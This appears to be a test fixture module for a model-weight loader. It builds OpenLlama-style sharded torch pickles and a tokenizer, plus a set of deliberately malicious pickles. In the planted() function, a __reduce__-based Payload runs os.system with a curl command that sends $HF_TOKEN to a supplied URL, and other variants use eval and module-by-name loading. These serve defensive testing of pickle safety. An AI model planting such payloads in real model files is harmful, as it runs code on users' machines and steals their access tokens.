"""OpenLlama's form: weights as pickles alone, and a tokenizer.model; and pickles with a payload."""

import io
import json
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch
from safetensors.torch import load_file

from tests import families

SHARDS = ("pytorch_model-00001-of-00002.bin", "pytorch_model-00002-of-00002.bin")


def saved(content: object, **options) -> bytes:
    """What torch.save writes."""
    torch.save(content, stream := io.BytesIO(), **options)
    return stream.getvalue()


def weights(name: str = "llama", seed: int = 0) -> dict[str, torch.Tensor]:
    """A family's weights in half precision, as OpenLlama's are."""
    whole = load_file(families.model(name, seed) / "model.safetensors")
    return {key: tensor.half() for key, tensor in whole.items()}


def openllama(seed: int = 0) -> dict[str, bytes]:
    """The files of such a repository: two shards and their index."""
    state = weights(seed=seed)
    names = sorted(state)
    parts = (names[: len(names) // 2], names[len(names) // 2 :])
    files = {
        shard: saved({name: state[name] for name in part})
        for shard, part in zip(SHARDS, parts, strict=True)
    }
    size = sum(tensor.nbytes for tensor in state.values())
    places = {name: SHARDS[name in parts[1]] for name in names}
    index = {"metadata": {"total_size": size}, "weight_map": places}
    files["pytorch_model.bin.index.json"] = json.dumps(index).encode()
    files["generation_config.json"] = b'{"bos_token_id": 1}'
    files["config.json"] = (families.model("llama", seed) / "config.json").read_bytes()
    folder = families.tokenizer("sentencepiece")
    return files | {path.name: path.read_bytes() for path in folder.iterdir()}


class Payload:
    """What calls a function when it is unpickled."""

    def __init__(self, function: Callable, *arguments: object):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def zipped(content: bytes, compression: int = zipfile.ZIP_STORED) -> bytes:
    """An archive as torch.save writes it, around a pickle made by hand."""
    with zipfile.ZipFile(stream := io.BytesIO(), "w", compression) as archive:
        archive.writestr("archive/data.pkl", content)
        archive.writestr("archive/version", "3\n")
    return stream.getvalue()


def planted(ran: Path, url: str) -> dict[str, bytes]:
    """Pickles of kinds that would write the file `ran`, or call `url` with the token."""
    call = Payload(os.system, f"touch {ran}; curl -s {url}/stolen/$HF_TOKEN")
    module = b"\x80\x02cplanted\nrun\n)R."  # of a file planted.py
    return {
        "zip": saved({"x": call}),
        "as an attribute": saved({"x": torch.zeros(2), "y": Payload(setattr, call, "z", 1)}),
        "eval": saved({"x": Payload(eval, f"open({str(ran)!r}, 'w')")}),
        "module by name": zipped(module),
        "plain pickle": pickle.dumps({"x": call}),
        "legacy": saved({"x": call}, _use_new_zipfile_serialization=False),
    }
